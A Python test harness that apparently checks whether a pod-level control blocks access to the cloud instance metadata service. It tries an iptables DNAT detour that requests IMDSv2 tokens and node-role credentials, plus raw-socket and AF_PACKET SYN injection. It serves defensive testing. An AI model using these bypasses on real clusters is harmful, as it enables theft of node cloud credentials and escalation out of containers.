"""Tries to reach the instance metadata service without a connect() that iamlet's hooks see.

Run inside a fake pod (or, as a control, a host outside the pods' cgroup) as root:

    imds_bypass.py MODE FAMILY

MODE:
  dnat    the pod's own NAT rule (CAP_NET_ADMIN): DNAT a decoy address to the metadata
          address, then an ordinary HTTP client (IMDSv2 token PUT, role list, credentials)
          to the decoy;
  raw     a TCP SYN to the metadata address written on a raw IP socket (CAP_NET_RAW);
  packet  a TCP SYN in an Ethernet frame written on an AF_PACKET socket to the gateway
          (CAP_NET_RAW; below IP: no cgroup hook sees it, only the node that forwards it).
FAMILY: v4, v6 or mapped (an AF_INET6 socket to the v4-mapped decoy; dnat only).

Meanwhile an AF_PACKET capture counts every byte that arrives from a metadata address.
Prints one JSON object: mode, family, capture_bytes (bytes of frames from the metadata
service seen arriving), socket_bytes (HTTP bytes the client read), node_key_seen (the node's
access key was in them), error.
"""

import json
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time

IMDS_V4, IMDS_V6 = "169.254.169.254", "fd00:ec2::254"
DECOY_V4, DECOY_V6 = "198.19.99.99", "fd00:1a3e:99::99"
NODE_TOKEN = "node-upstream-token"
ETH_P_ALL, ETH_P_IP = 0x0003, 0x0800


def capture(stop, counted):
    """Counts bytes of incoming frames whose IP source is a metadata address."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.settimeout(0.2)
    v4 = socket.inet_pton(socket.AF_INET, IMDS_V4)
    v6 = socket.inet_pton(socket.AF_INET6, IMDS_V6)
    while not stop.is_set():
        try:
            frame, addr = s.recvfrom(65536)
        except socket.timeout:
            continue
        if addr[2] == socket.PACKET_OUTGOING:
            continue
        proto = addr[1]
        # Ethernet devices carry a 14-byte header; loopback too; the payload starts after it.
        ip = frame[14:] if addr[3] in (1, 772) else frame
        if proto == ETH_P_IP and ip[12:16] == v4:
            counted[0] += len(frame)
        elif proto == 0x86DD and ip[8:24] == v6:
            counted[0] += len(frame)


def http(family, host, method, path, headers):
    af = socket.AF_INET if family == "v4" else socket.AF_INET6
    s = socket.socket(af, socket.SOCK_STREAM)
    if family == "mapped":
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        host = "::ffff:" + host
    s.settimeout(3)
    s.connect((host, 80))
    extra = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    s.sendall(f"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{extra}\r\n".encode())
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            return data
        data += chunk


def dnat(family):
    decoy, target, tool = (DECOY_V4, IMDS_V4, "iptables")
    if family == "v6":
        decoy, target, tool = (DECOY_V6, f"[{IMDS_V6}]", "ip6tables")
    subprocess.run(
        [tool, "-t", "nat", "-A", "OUTPUT", "-p", "tcp", "-d", decoy, "--dport", "80",
         "-j", "DNAT", "--to-destination", f"{target}:80"],
        check=True,
    )
    got = b""
    got += http(family, decoy, "PUT", "/latest/api/token",
                {"X-aws-ec2-metadata-token-ttl-seconds": "60"})
    for path in ("/latest/meta-data/iam/security-credentials/",
                 "/latest/meta-data/iam/security-credentials/node-role"):
        got += http(family, decoy, "GET", path, {"X-aws-ec2-metadata-token": NODE_TOKEN})
    return got


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src, dst, sport, family):
    """A TCP SYN segment to port 80 with its checksum."""
    header = struct.pack("!HHIIBBHHH", sport, 80, random.getrandbits(32), 0, 5 << 4, 0x02,
                         64240, 0, 0)
    if family == "v4":
        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(header))
    else:
        pseudo = (socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst)
                  + struct.pack("!IxxxB", len(header), 6))
    return header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]


def own_address(family):
    probe = socket.socket(socket.AF_INET if family == "v4" else socket.AF_INET6, socket.SOCK_DGRAM)
    probe.connect((IMDS_V4 if family == "v4" else IMDS_V6, 9))
    return probe.getsockname()[0]


def raw(family):
    dst = IMDS_V4 if family == "v4" else IMDS_V6
    src = own_address(family)
    af = socket.AF_INET if family == "v4" else socket.AF_INET6
    s = socket.socket(af, socket.SOCK_RAW, socket.IPPROTO_TCP)
    for sport in (40001, 40002, 40003):
        s.sendto(syn(src, dst, sport, family), (dst, 0))
        time.sleep(0.3)
    return b""


def gateway_mac():
    """The MAC of the default gateway (learnt by sending it one datagram)."""
    gw = None
    with open("/proc/net/route") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if fields[1] == "00000000":
                gw = socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
                dev = fields[0]
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"x", (gw, 9))
    # Let both ends learn each other's IPv6 neighbour entry too (the reply needs it).
    with open("/proc/net/ipv6_route") as f:
        for line in f:
            fields = line.split()
            if fields[0] == "0" * 32 and fields[1] == "00" and fields[4] != "0" * 32:
                gw6 = socket.inet_ntop(socket.AF_INET6, bytes.fromhex(fields[4]))
                socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", (gw6, 9))
    time.sleep(0.3)
    with open("/proc/net/arp") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if fields[0] == gw:
                return dev, bytes.fromhex(fields[3].replace(":", ""))
    raise RuntimeError(f"no ARP entry for the gateway {gw}")


def packet(family):
    dev, gw_mac = gateway_mac()
    src = own_address(family)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((dev, 0))
    my_mac = s.getsockname()[4]
    for sport in (40011, 40012, 40013, 40014, 40015):
        if family == "v4":
            tcp = syn(src, IMDS_V4, sport, "v4")
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0,
                             64, 6, 0, socket.inet_aton(src), socket.inet_aton(IMDS_V4))
            ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
            ethertype = ETH_P_IP
        else:
            tcp = syn(src, IMDS_V6, sport, "v6")
            ip = (struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64)
                  + socket.inet_pton(socket.AF_INET6, src)
                  + socket.inet_pton(socket.AF_INET6, IMDS_V6))
            ethertype = 0x86DD
        s.send(gw_mac + my_mac + struct.pack("!H", ethertype) + ip + tcp)
        time.sleep(0.3)
    return b""


def main():
    mode, family = sys.argv[1], sys.argv[2]
    stop, counted = threading.Event(), [0]
    t = threading.Thread(target=capture, args=(stop, counted), daemon=True)
    t.start()
    time.sleep(0.2)
    got, error = b"", None
    try:
        got = {"dnat": dnat, "raw": raw, "packet": packet}[mode](family)
    except Exception as e:  # the attempt failing is an outcome, reported as such
        error = f"{type(e).__name__}: {e}"
    time.sleep(1.0)
    stop.set()
    t.join()
    print(json.dumps({
        "mode": mode,
        "family": family,
        "capture_bytes": counted[0],
        "socket_bytes": len(got),
        "node_key_seen": os.environ.get("NODE_KEY", "\0") in got.decode(errors="replace"),
        "error": error,
    }))


main()
